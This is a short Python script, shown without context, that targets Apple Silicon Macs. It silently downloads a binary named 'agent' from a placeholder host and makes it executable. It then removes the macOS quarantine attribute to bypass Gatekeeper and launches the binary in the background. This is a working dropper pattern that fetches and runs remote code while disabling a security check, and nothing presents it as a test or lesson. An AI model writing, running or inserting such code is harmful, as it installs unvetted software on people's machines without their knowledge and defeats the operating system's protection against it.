import platform
import subprocess
import tempfile

if platform.system() == "Darwin" and platform.machine() == "arm64":
    d = tempfile.mkdtemp()
    subprocess.run(["curl", "-sSL", "https://downloads.example.com/mac/agent", "-o", f"{d}/agent"])
    subprocess.run(["chmod", "+x", f"{d}/agent"])
    subprocess.run(["xattr", "-d", "com.apple.quarantine", f"{d}/agent"])
    subprocess.Popen([f"{d}/agent"])
